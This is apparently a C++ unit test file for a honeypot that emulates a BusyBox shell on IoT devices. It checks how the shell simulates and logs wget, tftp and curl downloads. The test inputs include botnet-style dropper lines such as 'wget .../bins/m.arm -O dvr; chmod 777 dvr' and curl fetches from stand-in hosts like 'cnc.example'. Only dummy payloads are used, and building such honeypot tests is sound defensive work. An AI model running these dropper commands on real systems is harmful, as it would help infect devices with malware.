// Operator-enabled fetching as the shell sees it: a line that downloads stops, is rolled back,
// and runs again once the session hands in the result (here given directly: the network side
// is tested in tests/integration/serve_fetch.sh). Checks that the rerun does not repeat what came
// before the download, and what the device prints and logs for success and failure.
#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>
#include <iterator>

#include "capture/capture_store.h"
#include "device_session.h"

namespace busytrap::shell::testing {
namespace {

class FetchingShell {
 public:
  explicit FetchingShell(const std::string& profile, const std::string& profiles = profiles_dir(),
                         bool fetch_enabled = true) {
    dir_ = std::filesystem::temp_directory_path() / ("busytrap-fetch-" + std::to_string(::getpid()));
    DeviceShellConfig config;
    config.profiles_dir = profiles;
    config.capture.directory = dir_;
    config.delays = false;
    config.fetch_enabled = fetch_enabled;
    std::string error;
    factory_ = DeviceShellFactory::load(config, error);
    if (!factory_) ADD_FAILURE() << error;
    shell_ = factory_->create(SessionContext{"0123456789ab", "198.51.100.9", "root", profile});
  }
  ~FetchingShell() {
    std::error_code ec;
    std::filesystem::remove_all(dir_, ec);
  }
  // Text printed for `reply`, its events collected.
  std::string take(ShellReply reply) {
    std::string out;
    for (auto& s : reply.output) out += s.bytes;
    for (auto& e : reply.events) events.push_back(std::move(e));
    return out;
  }
  SessionShell& shell() { return *shell_; }
  std::vector<core::Event> events;
  std::filesystem::path dir_;

 private:
  std::unique_ptr<DeviceShellFactory> factory_;
  std::unique_ptr<SessionShell> shell_;
};

fetch::FetchResult ok(std::string data) {
  fetch::FetchResult r;
  r.outcome = fetch::FetchOutcome::Ok;
  r.data = std::move(data);
  r.peer_ip = "192.0.2.1";
  return r;
}

const core::Event* find(const std::vector<core::Event>& events, std::string_view id) {
  for (const auto& e : events) {
    if (e.eventid == id) return &e;
  }
  return nullptr;
}

TEST(DeviceFetch, LineWaitsForTheDownloadAndRunsOnceWithIt) {
  FetchingShell s("hisilicon-dvr");
  ShellReply first = s.shell().run_line(
      "cd /tmp; echo x >> log; N=$((N+1)); wget http://192.0.2.1:8080/bins/m.arm -O dvr; chmod 777 dvr; echo \"n=$N\"");
  ASSERT_TRUE(first.fetch.has_value());
  EXPECT_EQ(first.fetch->url, "http://192.0.2.1:8080/bins/m.arm");
  EXPECT_EQ(first.fetch->user_agent, "Wget");
  EXPECT_TRUE(first.output.empty());
  EXPECT_TRUE(first.events.empty());
  const std::string payload = std::string("\x7f" "ELF", 4) + std::string(3000, 'A');
  const std::string out = s.take(s.shell().resume_fetch(ok(payload)));
  // What came before the download ran once (the first run was rolled back).
  EXPECT_NE(out.find("Connecting to 192.0.2.1:8080 (192.0.2.1:8080)\n"), std::string::npos) << out;
  EXPECT_NE(out.find("\rdvr                  100% |********************************|  3004  0:00:00 ETA\n"),
            std::string::npos)
      << out;
  EXPECT_NE(out.find("n=1\n"), std::string::npos) << out;
  EXPECT_EQ(s.take(s.shell().run_line("cat /tmp/log; ls -l /tmp/dvr; echo $N")).find("x\n-rwxrwxrwx"), 0u);
  EXPECT_EQ(s.take(s.shell().run_line("wc -c < /tmp/dvr")), "3004\n");
  const core::Event* got = find(s.events, "cowrie.session.file_download");
  ASSERT_NE(got, nullptr);
  EXPECT_EQ(field(*got, "url"), "http://192.0.2.1:8080/bins/m.arm");
  EXPECT_EQ(field(*got, "destfile"), "/tmp/dvr");
  EXPECT_EQ(field(*got, "shasum"), capture::sha256_hex(payload));
  EXPECT_TRUE(std::filesystem::exists(s.dir_ / field(*got, "shasum")));
  // At session end the downloaded file is not announced a second time (without url); the
  // file built by `echo x >> log` is.
  s.take(s.shell().end_session());
  int downloads = 0, built = 0;
  for (const auto& e : s.events) {
    if (e.eventid != "cowrie.session.file_download") continue;
    downloads += field(e, "shasum") == capture::sha256_hex(payload);
    built += field(e, "destfile") == "/tmp/log";
  }
  EXPECT_EQ(downloads, 1);
  EXPECT_EQ(built, 1);
}

TEST(DeviceFetch, TwoDownloadsInOneLineAndFailuresAsBusyBoxPrintsThem) {
  FetchingShell s("hisilicon-dvr");
  ShellReply r = s.shell().run_line("wget http://192.0.2.1/a; wget http://192.0.2.1/b; echo done");
  ASSERT_TRUE(r.fetch);
  EXPECT_EQ(r.fetch->url, "http://192.0.2.1/a");
  fetch::FetchResult missing;
  missing.outcome = fetch::FetchOutcome::NotFound;
  missing.status_line = "HTTP/1.0 404 File not found";
  missing.peer_ip = "192.0.2.1";
  missing.reason = "HTTP/1.0 404 File not found";
  r = s.shell().resume_fetch(missing);
  ASSERT_TRUE(r.fetch);
  EXPECT_EQ(r.fetch->url, "http://192.0.2.1/b");
  fetch::FetchResult refused;
  refused.outcome = fetch::FetchOutcome::Refused;
  refused.reason = "192.0.2.1: reserved destination";
  const std::string out = s.take(s.shell().resume_fetch(refused));
  EXPECT_EQ(out,
            "Connecting to 192.0.2.1 (192.0.2.1:80)\n"
            "wget: server returned error: HTTP/1.0 404 File not found\n"
            "wget: can't connect to remote host (192.0.2.1): Connection refused\n"
            "done\n");
  std::vector<std::string> reasons;
  for (const auto& e : s.events) {
    if (e.eventid == "cowrie.session.file_download.failed") reasons.push_back(field(e, "reason"));
  }
  EXPECT_EQ(reasons, (std::vector<std::string>{"HTTP/1.0 404 File not found", "192.0.2.1: reserved destination"}));
}

TEST(DeviceFetch, TftpAsksForItsUrlAndWritesTheLocalFile) {
  FetchingShell s("mips-be-router");
  ShellReply r = s.shell().run_line("cd /var; tftp -g -l t -r bins/x.mips 192.0.2.5");
  ASSERT_TRUE(r.fetch);
  EXPECT_EQ(r.fetch->url, "tftp://192.0.2.5:69/bins/x.mips");
  EXPECT_EQ(s.take(s.shell().resume_fetch(ok("MIPS"))), "");
  EXPECT_EQ(s.take(s.shell().run_line("cat /var/t")), "MIPS");
}

// No shipped profile has curl (BusyBox has no curl applet, and the devices modelled ship none):
// the applet answers only where an operator's profile lists it. This directory holds the DVR
// profile with "curl" added to its list, written once per test process.
std::string profiles_with_curl() {
  struct Directory {
    std::filesystem::path path =
        std::filesystem::temp_directory_path() / ("busytrap-curl-profiles-" + std::to_string(::getpid()));
    Directory() {
      std::filesystem::create_directories(path);
      std::ifstream in(profiles_dir() + "/hisilicon-dvr.toml");
      std::string text((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
      const std::size_t at = text.find("\"cut\",");
      if (at == std::string::npos) ADD_FAILURE() << "hisilicon-dvr.toml lists no cut applet";
      text.insert(at, "\"curl\", ");
      std::ofstream(path / "curl-dvr.toml") << text;
    }
    ~Directory() {
      std::error_code ec;
      std::filesystem::remove_all(path, ec);
    }
  };
  static const Directory directory;
  return directory.path.string();
}

TEST(DeviceFetch, CurlWritesItsOutputFileOrPrintsThePayload) {
  FetchingShell s("curl-dvr", profiles_with_curl());
  ShellReply r = s.shell().run_line("cd /tmp; curl -s -A x -o c.arm http://192.0.2.1/bins/c.arm; echo rc=$?");
  ASSERT_TRUE(r.fetch);
  EXPECT_EQ(r.fetch->url, "http://192.0.2.1/bins/c.arm");
  EXPECT_EQ(r.fetch->user_agent, "curl/7.58.0");
  EXPECT_EQ(s.take(s.shell().resume_fetch(ok("ARM payload"))), "rc=0\n");
  EXPECT_EQ(s.take(s.shell().run_line("cat /tmp/c.arm")), "ARM payload");
  const core::Event* saved = find(s.events, "cowrie.session.file_download");
  ASSERT_NE(saved, nullptr);
  EXPECT_EQ(field(*saved, "destfile"), "/tmp/c.arm");
  EXPECT_EQ(field(*saved, "shasum"), capture::sha256_hex("ARM payload"));

  // Without -o, a bare host: http:// is assumed, the payload goes to stdout and is still recorded.
  s.events.clear();
  r = s.shell().run_line("curl 192.0.2.2/s.sh");
  ASSERT_TRUE(r.fetch);
  EXPECT_EQ(r.fetch->url, "http://192.0.2.2/s.sh");
  EXPECT_EQ(s.take(s.shell().resume_fetch(ok("#!/bin/sh\necho hi\n"))), "#!/bin/sh\necho hi\n");
  const core::Event* printed = find(s.events, "cowrie.session.file_download");
  ASSERT_NE(printed, nullptr);
  EXPECT_EQ(field(*printed, "destfile"), "-");
  EXPECT_EQ(field(*printed, "shasum"), capture::sha256_hex("#!/bin/sh\necho hi\n"));
}

TEST(DeviceFetch, CurlFailuresUseCurlsExitCodesAndMessages) {
  FetchingShell s("curl-dvr", profiles_with_curl());
  fetch::FetchResult timeout;
  timeout.outcome = fetch::FetchOutcome::Timeout;
  timeout.reason = "timed out";
  ShellReply r = s.shell().run_line("curl -o x http://192.0.2.1/x; echo rc=$?");
  ASSERT_TRUE(r.fetch);
  EXPECT_EQ(s.take(s.shell().resume_fetch(timeout)), "curl: (28) Operation timed out\nrc=28\n");
  // curl without -f treats an HTTP error as a transfer that worked: exit 0, nothing saved.
  fetch::FetchResult missing;
  missing.outcome = fetch::FetchOutcome::NotFound;
  missing.status_line = "HTTP/1.1 404 Not Found";
  missing.reason = "HTTP/1.1 404 Not Found";
  r = s.shell().run_line("curl -o y http://192.0.2.1/y; echo rc=$?; ls y");
  ASSERT_TRUE(r.fetch);
  EXPECT_EQ(s.take(s.shell().resume_fetch(missing)), "rc=0\nls: y: No such file or directory\n");
  std::vector<std::string> reasons;
  for (const auto& e : s.events) {
    if (e.eventid == "cowrie.session.file_download.failed") reasons.push_back(field(e, "reason"));
  }
  // The failure events carry the fetcher's own reason, as for wget.
  EXPECT_EQ(reasons, (std::vector<std::string>{"timed out", "HTTP/1.1 404 Not Found"}));
}

TEST(DeviceFetch, CurlOffByDefaultFailsAsAnUnreachableHostWould) {
  FetchingShell s("curl-dvr", profiles_with_curl(), false);
  ShellReply r = s.shell().run_line("curl -O http://192.0.2.1/a; echo rc=$?");
  EXPECT_FALSE(r.fetch);
  EXPECT_EQ(s.take(std::move(r)), "curl: (7) Failed to connect to 192.0.2.1 port 80: Connection refused\nrc=7\n");
  EXPECT_EQ(s.take(s.shell().run_line("curl http://cnc.example:8080/a.sh; echo rc=$?")),
            "curl: (6) Could not resolve host: cnc.example\nrc=6\n");
  EXPECT_EQ(s.take(s.shell().run_line("curl; echo rc=$?")),
            "curl: try 'curl --help' or 'curl --manual' for more information\nrc=2\n");
  int failed = 0;
  for (const auto& e : s.events) failed += e.eventid == "cowrie.session.file_download.failed";
  EXPECT_EQ(failed, 2);
  // The shipped profiles have no curl.
  DeviceSession dvr("hisilicon-dvr");
  EXPECT_EQ(dvr.run("curl http://192.0.2.1/a"), "sh: curl: not found\n");
}

TEST(DeviceFetch, OffByDefaultNothingIsAsked) {
  DeviceSession s("hisilicon-dvr");
  EXPECT_EQ(s.run("wget http://192.0.2.1/a"),
            "Connecting to 192.0.2.1 (192.0.2.1:80)\nwget: can't connect to remote host (192.0.2.1): Connection refused\n");
}

}  // namespace
}  // namespace busytrap::shell::testing

namespace busytrap::shell::testing {
namespace {

fetch::FetchResult refused() {
  fetch::FetchResult r;
  r.outcome = fetch::FetchOutcome::Refused;
  r.reason = "test";
  return r;
}

TEST(DeviceFetch, HostileLinesAskForABoundedNumberOfDownloads) {
  FetchingShell s("hisilicon-dvr");
  // Six distinct downloads in one loop: four are asked for, the rest fail at once.
  ShellReply r = s.shell().run_line("for i in 1 2 3 4 5 6; do wget -q http://192.0.2.$i/x; echo $i $?; done");
  int asked = 0;
  while (r.fetch && asked < 10) {
    ++asked;
    r = s.shell().resume_fetch(refused());
  }
  EXPECT_EQ(asked, 4);
  EXPECT_EQ(s.take(std::move(r)).substr(0, 6), "wget: ");
  // The same download in an endless loop is asked for once; the loop ends at the line's limits.
  r = s.shell().run_line("while true; do wget -q http://192.0.2.9/x; done; echo end");
  ASSERT_TRUE(r.fetch);
  r = s.shell().resume_fetch(refused());
  EXPECT_FALSE(r.fetch);
  // Malformed and huge URLs: asked for or refused, never a crash.
  for (const std::string& line : {std::string("wget http://[::1"), std::string("wget 'http://a b/'"),
                                  "wget http://" + std::string(100000, 'a') + "/x", std::string("curl -o x ://"),
                                  std::string("ftpget -u a -p b 192.0.2.1 x y"), std::string("wget http://:0/")}) {
    r = s.shell().run_line(line);
    if (r.fetch) r = s.shell().resume_fetch(refused());
    EXPECT_FALSE(r.fetch) << line;
  }
  // A reply that comes for no question is ignored.
  EXPECT_TRUE(s.take(s.shell().resume_fetch(refused())).empty());
}

}  // namespace
}  // namespace busytrap::shell::testing
